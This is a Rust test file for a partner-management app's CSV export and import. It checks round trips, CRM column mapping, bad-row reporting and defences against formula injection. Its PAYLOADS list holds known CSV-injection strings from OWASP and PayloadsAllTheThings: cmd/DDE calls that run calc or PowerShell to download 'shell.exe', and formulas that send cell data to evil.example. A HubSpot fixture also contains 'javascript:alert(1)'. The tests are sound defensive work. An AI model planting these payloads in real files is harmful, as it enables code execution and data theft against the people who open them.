//! CSV export and import through the public API: what a spreadsheet round trip keeps,
//! how CRM exports map, and how bad rows are reported while good rows still import.
//!
//! Text is drawn from all of Unicode plus the characters that break CSV: the delimiters,
//! quotes, line breaks (LF, CR, CRLF), apostrophes, the characters that start a formula,
//! a known injection payload and emoji. Values are generated as the partner form saves
//! them: name, website, owner, tags and market names trimmed, notes as typed. U+FFFD is
//! left out: the import reads it as the mark of a file that was not UTF-8.

mod common;

use chrono::{DateTime, TimeZone, Utc};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::TestCaseError;
use std::collections::HashSet;
use tandem::model::core::check;
use tandem::model::core::text::is_blank;
use tandem::model::formats::csv::{
    partners_csv, rows_to_partners, suggest_mapping, CsvImport, CsvTable, PartnerField,
};
use tandem::model::merge::import::{self, Mode};
use tandem::model::workspace::validate;
use tandem::model::{Category, Id, LadderLevel, Market, MarketPosition, Partner, Stage, Workspace};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, 10, 0, 0).unwrap()
}

fn counter(prefix: &'static str) -> impl FnMut() -> Id {
    let mut n = 0;
    move || {
        n += 1;
        Id::parse(&format!("{prefix}-{n}")).unwrap()
    }
}

/// Any character but U+FFFD, weighted towards the ones CSV and spreadsheets trip on.
fn csv_char() -> impl Strategy<Value = char> {
    prop_oneof![
        3 => any::<char>().prop_filter("U+FFFD marks a non-UTF-8 file", |c| *c != '\u{FFFD}'),
        3 => proptest::char::range('a', 'z'),
        3 => select(vec![
            ',', ';', '\t', '"', '\'', '\n', '\r', '=', '+', '-', '@', '|', '!', ' ', '😀',
            '🤝', '\u{FEFF}', '\u{0}', 'é', 'ß', 'İ', '日',
        ]),
    ]
}

fn raw_text(max: usize) -> impl Strategy<Value = String> {
    prop_oneof![
        6 => proptest::collection::vec(csv_char(), 0..=max.min(30)).prop_map(String::from_iter),
        1 => Just("=cmd|' /C calc'!A0".to_owned()),
        1 => Just("'=1+1".to_owned()),
        1 => Just("\"quoted\", then\r\nmore".to_owned()),
    ]
}

/// Text as the form saves a trimmed field: no outer whitespace, within `max` characters.
fn trimmed(max: usize) -> impl Strategy<Value = String> {
    raw_text(max).prop_map(move |s| {
        s.trim()
            .chars()
            .take(max)
            .collect::<String>()
            .trim()
            .to_owned()
    })
}

fn required(max: usize) -> impl Strategy<Value = String> {
    // Invisible characters alone count as blank, as the model's check reads them.
    trimmed(max).prop_map(|s| if is_blank(&s) { "x".to_owned() } else { s })
}

/// A tag or market name: required, and free of the separators its cell splits on.
fn list_item(max: usize, separators: &'static [char]) -> impl Strategy<Value = String> {
    required(max).prop_map(move |s| {
        let s: String = s.chars().filter(|c| !separators.contains(c)).collect();
        let s = s.trim().to_owned();
        if is_blank(&s) {
            "x".to_owned()
        } else {
            s
        }
    })
}

fn website() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        "[a-z0-9-]{1,12}\\.[a-z]{2,5}(/[a-z0-9=,;'+@-]{0,8})?".prop_map(|s| format!("https://{s}")),
    ]
}

fn choice<T: Copy + std::fmt::Debug + 'static>(all: &'static [T]) -> impl Strategy<Value = T> {
    select(all)
}

/// A valid workspace of up to 6 partners over a catalogue of up to 4 markets.
fn workspace() -> impl Strategy<Value = Workspace> {
    let markets = proptest::collection::vec(list_item(30, &[';']), 0..=4).prop_map(|names| {
        let mut seen = HashSet::new();
        names
            .into_iter()
            .filter(|n| seen.insert(n.to_lowercase()))
            .enumerate()
            .map(|(i, n)| Market::new(Id::parse(&format!("m{i}")).unwrap(), n, now()))
            .collect::<Vec<_>>()
    });
    let partner = (
        required(check::MAX_NAME),
        website(),
        // Not set travels as an empty cell and reads back as not set.
        proptest::option::of(choice(Category::ALL)),
        proptest::option::of(choice(MarketPosition::ALL)),
        choice(Stage::ALL),
        choice(LadderLevel::ALL),
        trimmed(check::MAX_NAME),
        proptest::collection::vec(list_item(check::MAX_TAG, &[';', ',']), 0..=4),
        raw_text(200),
        proptest::collection::vec(any::<bool>(), 4),
    );
    (markets, proptest::collection::vec(partner, 0..=6)).prop_map(|(markets, partners)| {
        let partners = partners
            .into_iter()
            .enumerate()
            .map(
                |(
                    i,
                    (name, website, category, position, stage, ladder, owner, tags, notes, uses),
                )| {
                    let mut p = Partner::new(Id::parse(&format!("p{i}")).unwrap(), name, now());
                    p.website = website;
                    p.category = category;
                    p.position = position;
                    p.stage = stage;
                    p.ladder = ladder;
                    p.owner = owner;
                    p.tags = tags;
                    p.notes = notes;
                    p.markets = markets
                        .iter()
                        .zip(uses)
                        .filter(|(_, used)| *used)
                        .map(|(m, _)| m.id.clone())
                        .collect();
                    p.into()
                },
            )
            .collect();
        Workspace {
            markets,
            partners,
            ..Workspace::empty()
        }
    })
}

fn import_text(text: &str, into: &Workspace) -> CsvImport {
    let table = CsvTable::parse(text).expect("the export reads back");
    let mapping = suggest_mapping(&table.headers);
    rows_to_partners(&table, &mapping, into, now(), counter("new")).expect("Name is mapped")
}

/// The fields a CSV row carries, with markets by name.
fn mapped_fields(p: &Partner, ws: &Workspace) -> impl PartialEq + std::fmt::Debug {
    let markets: Vec<String> = p
        .markets
        .iter()
        .map(|m| ws.market_name(m).to_owned())
        .collect();
    (
        p.name.clone(),
        p.website.clone(),
        (p.category, p.position, p.stage, p.ladder),
        p.owner.clone(),
        p.tags.clone(),
        p.notes.clone(),
        markets,
    )
}

proptest! {
    #![proptest_config(common::fast_config(256))]

    /// Exported partners import back into the workspace they came from as exactly
    /// themselves: nothing to change, whatever the text holds.
    #[test]
    fn export_then_import_into_the_same_workspace_changes_nothing(ws in workspace()) {
        prop_assert!(validate::workspace(&ws).is_empty());
        let result = import_text(&partners_csv(&ws), &ws);
        prop_assert_eq!(&result.bad_rows, &vec![]);
        prop_assert!(result.partners.iter().eq(ws.partners.iter().map(|p| &**p)));
        prop_assert!(result.new_markets.is_empty());
        prop_assert!(import::preview(&ws, &result.incoming(&ws), Mode::Merge).is_no_op());
    }

    /// Into an empty workspace, every partner's mapped fields arrive as they were, and
    /// each market name used becomes one market.
    #[test]
    fn export_then_import_into_an_empty_workspace_keeps_every_mapped_field(ws in workspace()) {
        let empty = Workspace::empty();
        let result = import_text(&partners_csv(&ws), &empty);
        prop_assert_eq!(&result.bad_rows, &vec![]);
        let incoming = result.incoming(&empty);
        let merged = import::apply(&empty, &incoming, Mode::Merge).map_err(|e| {
            TestCaseError::fail(format!("{e:?}"))
        })?;
        prop_assert_eq!(merged.partners.len(), ws.partners.len());
        for (before, after) in ws.partners.iter().zip(&merged.partners) {
            prop_assert_eq!(mapped_fields(before, &ws), mapped_fields(after, &merged));
        }
        let used: HashSet<&Id> = ws.partners.iter().flat_map(|p| &p.markets).collect();
        prop_assert_eq!(merged.markets.len(), used.len());
    }

    /// No exported cell starts with a character that makes a spreadsheet run a formula,
    /// whichever separator the spreadsheet splits on and whether or not it honours
    /// quotes, read by deliberately naive readers rather than the import's own.
    #[test]
    fn no_exported_cell_can_start_a_formula(ws in workspace()) {
        let text = partners_csv(&ws);
        for reader in READERS {
            for cell in reader.cells(&text) {
                prop_assert!(!runs_as_formula(&cell), "{reader:?} reads a formula: {cell:?}");
            }
        }
    }
}

/// How a spreadsheet (or a script) might split a file we wrote: by comma (RFC 4180),
/// by semicolon (Excel where the list separator is `;`), by tab (a paste), honouring
/// quotes or not.
#[derive(Clone, Copy, Debug)]
struct Reader {
    separator: char,
    quotes: bool,
}

const READERS: [Reader; 6] = [
    Reader {
        separator: ',',
        quotes: true,
    },
    Reader {
        separator: ';',
        quotes: true,
    },
    Reader {
        separator: '\t',
        quotes: true,
    },
    Reader {
        separator: ',',
        quotes: false,
    },
    Reader {
        separator: ';',
        quotes: false,
    },
    Reader {
        separator: '\t',
        quotes: false,
    },
];

impl Reader {
    /// The cells of `text`: a quote opens a quoted cell only at the cell's start (when
    /// quotes are honoured), `""` inside is a quote, text after the closing quote joins
    /// the cell; the separator and every line break outside quotes end a cell.
    fn cells(self, text: &str) -> Vec<String> {
        let mut cells = Vec::new();
        let mut cell = String::new();
        let (mut quoted, mut at_start) = (false, true);
        let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
        while let Some(c) = chars.next() {
            if quoted {
                match c {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => quoted = false,
                    c => cell.push(c),
                }
            } else if c == '"' && at_start && self.quotes {
                quoted = true;
                at_start = false;
            } else if c == self.separator || c == '\n' || c == '\r' {
                cells.push(std::mem::take(&mut cell));
                at_start = true;
            } else {
                cell.push(c);
                at_start = false;
            }
        }
        cells.push(cell);
        cells
    }
}

/// Whether a spreadsheet would run `cell` as a formula: it starts with `=`, `+`, `-` or
/// `@` once the tabs and CRs a spreadsheet skips, and any quotes a lenient reader
/// drops, are taken off.
fn runs_as_formula(cell: &str) -> bool {
    cell.trim_start_matches(['\t', '\r', '"'])
        .starts_with(['=', '+', '-', '@'])
}

/// The payloads of OWASP's CSV Injection page and PayloadsAllTheThings' CSV Injection
/// list, plus the ones issue 13 names.
const PAYLOADS: [&str; 16] = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://evil.example?x=\"&A1&B1,\"Error: please click for further information\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "x;=cmd|' /C calc'!A0;",
    "'=cmd|' /C calc'!A0",
];

/// Where a payload can sit in a value: alone, after text and a separator of either
/// locale, a tab, or a line break of any kind, behind a quote, or twice.
fn placements(payload: &str) -> Vec<String> {
    let mut all = vec![payload.to_owned()];
    for before in [
        "x,", "x;", "x\t", "note\n", "note\r\n", "note\r", "\"", "x;\"", ",,", ";'",
    ] {
        all.push(format!("{before}{payload}"));
    }
    all.push(format!("{payload}\n{payload};{payload},{payload}"));
    all
}

/// Every OWASP payload, wherever it sits in a value, comes out as a cell no reader
/// runs, in every column of the export, and reads back exactly.
#[test]
fn owasp_payloads_never_start_a_cell_in_either_separator_and_round_trip() {
    let mut values = Vec::new();
    for payload in PAYLOADS {
        values.extend(placements(payload));
    }
    // Two columns, so each value is read both at a row's start and after a separator.
    let rows: Vec<[String; 2]> = values.iter().map(|v| [v.clone(), v.clone()]).collect();
    let text = tandem::model::formats::csv::write_table(&["A", "B"], &rows);
    let mut read = 0;
    for reader in READERS {
        for cell in reader.cells(&text) {
            assert!(
                !runs_as_formula(&cell),
                "{reader:?} reads a formula: {cell:?}"
            );
            read += 1;
        }
    }
    assert!(
        read > values.len() * 2 * READERS.len(),
        "the readers split the cells"
    );
    let table = CsvTable::parse(&text).expect("the export reads back");
    assert_eq!(table.rows.len(), values.len());
    for (row, value) in table.rows.iter().zip(&values) {
        assert_eq!(row.cells, [value.as_str(), value.as_str()]);
    }

    // The same through the partner export, in the notes (kept exactly as typed).
    let mut ws = Workspace::empty();
    for (i, value) in values.iter().enumerate() {
        let mut p = Partner::new(Id::parse(&format!("p{i}")).unwrap(), format!("P{i}"), now());
        p.notes = value.clone();
        ws.partners.push(p.into());
    }
    let text = partners_csv(&ws);
    for reader in READERS {
        for cell in reader.cells(&text) {
            assert!(
                !runs_as_formula(&cell),
                "{reader:?} reads a formula: {cell:?}"
            );
        }
    }
    let result = import_text(&text, &Workspace::empty());
    assert_eq!(result.bad_rows, vec![]);
    assert_eq!(result.partners.len(), values.len());
    for (p, value) in result.partners.iter().zip(&values) {
        assert_eq!(&p.notes, value);
    }
}

/// A HubSpot companies export, as its column names come.
const HUBSPOT: &str = "\
Record ID,Company name,Company owner,Create Date,Company Domain Name,Industry,Lifecycle Stage,Country/Region,About Us,Type
101,Aria Audio,Kim Lee,2026-01-02 10:00,aria.example,COMPUTER_SOFTWARE,customer,Germany,Streams audio,Reseller
102,Beat Labs,Kim Lee,2026-01-03 10:00,javascript:alert(1),MUSIC,lead,France,,Partner
103,Chord Co,Ana Ruiz,2026-01-04 10:00,https://chord.example,MUSIC,salesqualifiedlead,Germany,,Reseller
104,,Ana Ruiz,2026-01-05 10:00,nameless.example,MUSIC,lead,Spain,,Reseller
105,Drum & Bass Ltd,Ana Ruiz,2026-01-06 10:00,drum.example,MUSIC,closedwon,Spain,,Reseller
";

/// A Salesforce accounts report, semicolon-separated as in a decimal-comma locale.
const SALESFORCE: &str = "\u{feff}Account ID;Account Name;Account Owner;Type;Industry;Website;Billing Country;Description\r\n\
001A;Echo Systems;Sam Roe;Technology Partner;Media;https://echo.example;United States;\"Long\r\nstanding\"\r\n\
001B;Fader;Sam Roe;Channel Partner / Reseller;Media;fader.example;Mexico;\r\n";

#[test]
fn a_hubspot_export_maps_by_itself() {
    let table = CsvTable::parse(HUBSPOT).unwrap();
    let m = suggest_mapping(&table.headers);
    let by_header = |h: &str| m.get(table.headers.iter().position(|x| x == h).unwrap());
    assert_eq!(by_header("Company name"), Some(PartnerField::Name));
    assert_eq!(by_header("Company owner"), Some(PartnerField::Owner));
    assert_eq!(
        by_header("Company Domain Name"),
        Some(PartnerField::Website)
    );
    assert_eq!(by_header("Lifecycle Stage"), Some(PartnerField::Stage));
    assert_eq!(by_header("Country/Region"), Some(PartnerField::Markets));
    assert_eq!(by_header("Type"), Some(PartnerField::Category));
    assert_eq!(
        by_header("Industry"),
        None,
        "industries are not partnership categories"
    );
    assert_eq!(
        by_header("Record ID"),
        None,
        "a CRM's id is not a Tandem id"
    );
}

#[test]
fn a_salesforce_export_maps_by_itself() {
    let table = CsvTable::parse(SALESFORCE).unwrap();
    assert_eq!(
        table.headers[0], "Account ID",
        "the byte-order mark is dropped"
    );
    let m = suggest_mapping(&table.headers);
    let mapped: Vec<_> = (0..m.len()).map(|c| m.get(c)).collect();
    {
        use PartnerField::*;
        let expected = [
            None,
            Some(Name),
            Some(Owner),
            Some(Category),
            None,
            Some(Website),
            Some(Markets),
            Some(Notes),
        ];
        assert_eq!(mapped, expected);
    }
    // "Channel Partner / Reseller" is not a category Tandem knows: that row is bad, and
    // says which column to fix or ignore.
    let result = rows_to_partners(&table, &m, &Workspace::empty(), now(), counter("n")).unwrap();
    assert_eq!(result.partners.len(), 1);
    assert_eq!(result.partners[0].notes, "Long\r\nstanding");
    assert_eq!(
        result.partners[0].category,
        Some(Category::TechnologyIntegration)
    );
    assert_eq!(result.bad_rows.len(), 1);
    assert_eq!(result.bad_rows[0].row, 3);
    assert_eq!(result.bad_rows[0].line, 4, "the cell above spans two lines");
    assert!(result.bad_rows[0]
        .reason
        .starts_with("Type \"Channel Partner / Reseller\" is not a category"));
    // Ignoring the column lets the row in.
    let mut m = m;
    m.set(3, None);
    let result = rows_to_partners(&table, &m, &Workspace::empty(), now(), counter("n")).unwrap();
    assert_eq!(result.partners.len(), 2);
    assert_eq!(result.partners[1].website, "https://fader.example");
}

#[test]
fn bad_rows_are_reported_by_row_and_the_good_rows_still_import() {
    let ws = tandem::model::demo::workspace(now());
    let table = CsvTable::parse(HUBSPOT).unwrap();
    let mut mapping = suggest_mapping(&table.headers);
    // "Partner" in the Type column is no category: ignore the column, as a person would.
    let type_column = table.headers.iter().position(|h| h == "Type").unwrap();
    mapping.set(type_column, None);
    let result = rows_to_partners(&table, &mapping, &ws, now(), counter("n")).unwrap();

    let bad: Vec<String> = result.bad_rows.iter().map(ToString::to_string).collect();
    assert_eq!(
        bad,
        [
            "row 3: Company Domain Name \"javascript:alert(1)\" must start with http:// or https://",
            "row 5: Company name is empty: every partner needs a name",
        ]
    );
    let names: Vec<&str> = result.partners.iter().map(|p| p.name.as_str()).collect();
    assert_eq!(names, ["Aria Audio", "Chord Co", "Drum & Bass Ltd"]);
    let stages: Vec<Stage> = result.partners.iter().map(|p| p.stage).collect();
    assert_eq!(stages, [Stage::Live, Stage::Pitching, Stage::Signed]);
    // Germany is the demo's; Spain is new (France belonged to a bad row: not created).
    let new: Vec<&str> = result.new_markets.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(new, ["Spain"]);

    let incoming = result.incoming(&ws);
    let preview = import::preview(&ws, &incoming, Mode::Merge);
    assert_eq!(preview.added, names);
    assert_eq!(preview.markets_added, 1);
    let merged = import::apply(&ws, &incoming, Mode::Merge).unwrap();
    assert_eq!(merged.partners.len(), ws.partners.len() + 3);
    assert!(validate::workspace(&merged).is_empty());
    let aria = merged
        .partners
        .iter()
        .find(|p| p.name == "Aria Audio")
        .unwrap();
    assert_eq!(aria.website, "https://aria.example");
    assert_eq!(aria.owner, "Kim Lee");
    assert_eq!(aria.notes, "Streams audio");
    assert_eq!(merged.market_name(&aria.markets[0]), "Germany");
}

/// Issue 13, item 5: the mapping step draws a drop-down per column, so a file of 5,000
/// columns is refused by its width at parse time, naming the limit and what to do.
#[test]
fn a_file_wider_than_the_column_limit_is_refused_and_one_at_the_limit_reads() {
    use tandem::model::formats::csv::{CsvError, MAX_COLUMNS};
    let row = |n: usize| {
        (0..n)
            .map(|i| format!("c{i}"))
            .collect::<Vec<_>>()
            .join(",")
    };
    for columns in [MAX_COLUMNS + 1, 5_000] {
        let text = format!("Name,{}\nAcme,{}\n", row(columns - 1), row(columns - 1));
        let refusal = CsvTable::parse(&text).unwrap_err();
        assert_eq!(refusal, CsvError::TooManyColumns { columns });
        if columns == 5_000 {
            assert_eq!(
                refusal.to_string(),
                "This file has 5,000 columns; Tandem imports files of at most 300. Delete \
                 the columns you do not need in your spreadsheet (or export fewer from your \
                 CRM), save it as CSV and choose it again."
            );
        }
    }
    let text = format!(
        "Name,{}\nAcme,{}\n",
        row(MAX_COLUMNS - 1),
        row(MAX_COLUMNS - 1)
    );
    let table = CsvTable::parse(&text).unwrap();
    assert_eq!(table.headers.len(), MAX_COLUMNS);
    let result = import_text(&text, &Workspace::empty());
    assert_eq!(result.partners.len(), 1);
}

/// Issue 13, item 5: 100,000 bad rows are all counted, and the list the mapping step
/// draws holds the first hundred, in file order, with a sentence for the rest.
#[test]
fn a_hundred_thousand_bad_rows_are_counted_and_only_the_first_hundred_listed() {
    use tandem::model::formats::csv::{listed, more_rows_text, MAX_LISTED_ROWS};
    let mut text = String::from("Name,Website\nGood Co,https://good.example\n");
    for i in 0..100_000 {
        text.push_str(&format!("Bad {i},javascript:x\n"));
    }
    let result = import_text(&text, &Workspace::empty());
    assert_eq!(result.partners.len(), 1);
    assert_eq!(result.bad_rows.len(), 100_000);
    let (shown, more) = listed(&result.bad_rows);
    assert_eq!(shown.len(), MAX_LISTED_ROWS);
    assert_eq!(more, 100_000 - MAX_LISTED_ROWS);
    // The header is row 1 and the good row row 2: the first bad row is row 3.
    assert_eq!(shown[0].row, 3);
    assert_eq!(shown[MAX_LISTED_ROWS - 1].row, MAX_LISTED_ROWS + 2);
    assert_eq!(
        more_rows_text(more).as_deref(),
        Some("and 99,900 more rows left out, not listed.")
    );
    assert_eq!(
        more_rows_text(1).as_deref(),
        Some("and 1 more row left out, not listed.")
    );
    assert_eq!(more_rows_text(0), None);
    // Fewer than the limit: every row listed.
    let few: Vec<usize> = (0..MAX_LISTED_ROWS).collect();
    assert_eq!(listed(&few), (&few[..], 0));
}

/// The demo with every record stamped as made at one moment by writer 1: the common
/// version two tabs (or two colleagues) start from.
fn stamped_demo() -> Workspace {
    use tandem::model::core::stamp::Stamp;
    use tandem::model::workspace::stamps::stamp_replace;
    let empty = Workspace::empty();
    let mut ws = tandem::model::demo::workspace(now());
    stamp_replace(
        &empty,
        &mut ws,
        Stamp::new(now().timestamp_millis(), 0, 1),
        now(),
        true,
    );
    ws
}

/// Issue 11: a partner CSV import stamps only the fields its rows changed, so another
/// tab's edit of another field of the same partner survives the merge, whichever of the
/// two was stamped later; a row that changes nothing leaves its partner untouched.
#[test]
fn a_partner_csv_import_stamps_only_the_fields_it_changed_and_merges_by_field() {
    use tandem::model::core::stamp::Stamp;
    use tandem::model::merge::rule::{merge, Ties};
    use tandem::model::workspace::stamps::stamp_edit;
    let base = stamped_demo();
    let (changed, same) = (&base.partners[0], &base.partners[1]);
    let stage = if changed.stage == Stage::Live {
        Stage::Paused
    } else {
        Stage::Live
    };
    let text = format!(
        "Name,Stage,Owner\n{},{},{}\n{},{},{}\n",
        changed.name,
        stage.label(),
        changed.owner,
        same.name,
        same.stage.label(),
        same.owner
    );
    let table = CsvTable::parse(&text).unwrap();
    let rows = rows_to_partners(
        &table,
        &suggest_mapping(&table.headers),
        &base,
        now(),
        counter("n"),
    )
    .unwrap();
    assert!(rows.bad_rows.is_empty(), "{:?}", rows.bad_rows);
    for (csv_at, tab_at) in [(200, 100), (100, 200)] {
        let csv_stamp = Stamp::new(now().timestamp_millis() + csv_at, 0, 2);
        let imported = rows.apply(&base, csv_stamp).unwrap();
        let p = &imported.partners[0];
        assert_eq!(p.stage, stage);
        let stamped: Vec<&String> = p.stamps.keys().collect();
        assert_eq!(stamped, ["stage"], "only the field the row changed");
        assert_eq!(p.part_stamp("notes"), changed.part_stamp("notes"));
        assert!(tandem::model::core::shared::Shared::same(
            &imported.partners[1],
            &base.partners[1]
        ));

        // Meanwhile another tab edited the notes of the same partner.
        let mut tab = base.clone();
        tab.partners[0].notes = "Edited in the other tab.".into();
        stamp_edit(
            &base,
            &mut tab,
            Stamp::new(now().timestamp_millis() + tab_at, 0, 3),
        );
        for (ours, theirs) in [(&imported, &tab), (&tab, &imported)] {
            let merged = merge(&base, ours, theirs, Ties::ByContent).workspace;
            let p = &merged.partners[0];
            assert_eq!(p.stage, stage, "the import's stage stays");
            assert_eq!(p.notes, "Edited in the other tab.", "the tab's notes stay");
        }
    }
}

/// A metrics CSV import is one edit through `stamp_edit` too: only the series it wrote
/// get its stamp, and another tab's edit of the same partner's notes stays.
#[test]
fn a_metrics_csv_import_stamps_only_the_series_it_wrote() {
    use tandem::model::core::stamp::Stamp;
    use tandem::model::formats::csv_metrics::{apply_metrics, MetricRow, MetricsImport};
    use tandem::model::merge::rule::{merge, Ties};
    use tandem::model::workspace::stamps::stamp_edit;
    let base = stamped_demo();
    let i = base
        .partners
        .iter()
        .position(|p| p.metrics.len() >= 2)
        .expect("a demo partner with two series");
    let series = &base.partners[i].metrics[0];
    let (&month, &value) = series.values.iter().next().unwrap();
    let import = MetricsImport {
        rows: vec![MetricRow {
            partner: base.partners[i].id.clone(),
            market: series.market.clone(),
            metric: series.metric.clone(),
            month,
            value: value + 1.0,
        }],
        bad_rows: Vec::new(),
    };
    let mut imported = base.clone();
    assert!(apply_metrics(&mut imported, &import, now()).unwrap());
    stamp_edit(
        &base,
        &mut imported,
        Stamp::new(now().timestamp_millis() + 10, 0, 2),
    );
    let stamped: Vec<&String> = imported.partners[i].stamps.keys().collect();
    assert_eq!(stamped.len(), 1, "{stamped:?}");
    assert!(stamped[0].starts_with("me:"), "{stamped:?}");

    let mut tab = base.clone();
    tab.partners[i].notes = "Edited in the other tab.".into();
    stamp_edit(
        &base,
        &mut tab,
        Stamp::new(now().timestamp_millis() + 20, 0, 3),
    );
    let merged = merge(&base, &imported, &tab, Ties::ByContent).workspace;
    let p = &merged.partners[i];
    assert_eq!(p.notes, "Edited in the other tab.");
    let (market, metric) = (&series.market, &series.metric);
    let merged_series = p
        .metrics
        .iter()
        .find(|s| &s.market == market && &s.metric == metric)
        .unwrap();
    assert_eq!(merged_series.values[&month], value + 1.0);
}
